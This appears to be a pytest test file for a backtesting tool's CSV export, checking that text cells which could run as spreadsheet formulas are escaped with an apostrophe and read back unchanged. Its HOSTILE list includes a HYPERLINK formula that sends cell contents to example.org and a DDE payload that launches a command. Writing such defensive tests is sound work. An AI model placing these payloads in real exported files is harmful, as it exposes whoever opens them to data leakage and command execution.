"""No text in a CSV becomes a formula, no number is touched, and every text can be read again as it was."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from backtest.cli.universe import universe
from backtest.spreadsheets import csv_of
from backtest.universe.mapping import Mapping
from tests.universe.made import saved, taken

if TYPE_CHECKING:
    from pathlib import Path

HOSTILE = (
    '=HYPERLINK("http://example.org/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "-5",
    "@SUM(1:1)",
    "'=kept",
    "''=twice",
    "'s-Hertogenbosch",
    "A=B",
    'Tom "the" Company, Inc.',
    "Plain",
)
"""Names of companies; the first seven would run in a spreadsheet, or come near it."""


@given(st.lists(st.text("=+-@'\t\"a,5 \n", max_size=4), min_size=1), st.floats(allow_nan=False))
def test_only_a_text_that_would_run_is_written_otherwise(texts: list[str], number: float) -> None:
    written = csv_of(pd.DataFrame({"text": texts, "number": number}))
    rows = list(csv.reader(io.StringIO(written.decode(), newline="")))[1:]
    assert len(rows) == len(texts)
    for text, (cell, value) in zip(texts, rows, strict=True):
        assert float(value) == number
        assert not cell.startswith(("=", "+", "-", "@", "\t"))
        runs = text.lstrip("'").startswith(("=", "+", "-", "@", "\t"))
        assert cell == ("'" + text if runs else text)


@pytest.fixture
def table(tmp_path: Path) -> Path:
    dates = pd.bdate_range("2020-01-01", periods=70)
    made = pd.MultiIndex.from_product([dates, HOSTILE], names=["date", "company"]).to_frame(index=False)
    steps = 1.0 + made.index.to_numpy() % 7 / 100.0
    return saved(made.assign(price=10.0 * steps, shares=1e6, industry="=Tools"), tmp_path)


@pytest.mark.parametrize("verb", ["classify", "screen"])
def test_a_table_of_universe_runs_nothing_and_reads_back(verb: str, table: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    accounts = "company,published,period_end,earnings,sales,book\n"
    (tmp_path / "accounts.csv").write_text(accounts + "Plain,2019-12-02,2019-11-30,1e6,1e7,1e6\n")
    more = ("--fundamentals", str(tmp_path / "accounts.csv")) if verb == "screen" else ()
    assert universe("rotation universe", None, [verb, str(table), *more, "--out", str(out), "--json"]) == 0
    with out.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) >= len(HOSTILE)
    for row in rows:
        for name, cell in row.items():
            number = cell.lstrip("-").replace(".", "").replace("e-", "").isdigit()
            assert number or not cell.startswith(("=", "+", "-", "@")), (name, cell)
    assert {row["company"] for row in rows} >= {"'" + HOSTILE[0], "'-5", "''=kept", "A=B", HOSTILE[8]}
    again = saved(
        pd.DataFrame(rows)[["company"]].assign(date="2020-01-31", price=1.0, shares=2.0), tmp_path, "a.csv"
    )
    assert _companies(again) == set(HOSTILE)


def _companies(path: Path) -> set[str]:
    from backtest.universe.intake import take_in
    from backtest.universe.workshop import Workshop

    with Workshop("500MB") as shop:
        taken = take_in(shop, path, Mapping(currency="USD"), "USD")
        return {row[0] for row in shop.rows(f"FROM {taken.lines} SELECT company")}


def test_in_parquet_no_spreadsheet_has_put_an_apostrophe(table: Path) -> None:
    assert _companies(table) == set(HOSTILE)
    assert taken(table).used > 0


def test_what_was_set_aside_is_a_table_of_universe_too(table: Path, tmp_path: Path) -> None:
    made = pd.read_parquet(table)
    made.loc[made["company"] == HOSTILE[0], "price"] = -1.0
    saved(made, tmp_path)
    assert (
        universe("rotation universe", None, ["build", str(table), "--out", str(tmp_path / "m"), "--json"])
        == 0
    )
    with (tmp_path / "m" / "set_aside.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert {row["company"] for row in rows} >= {"'" + HOSTILE[0]}
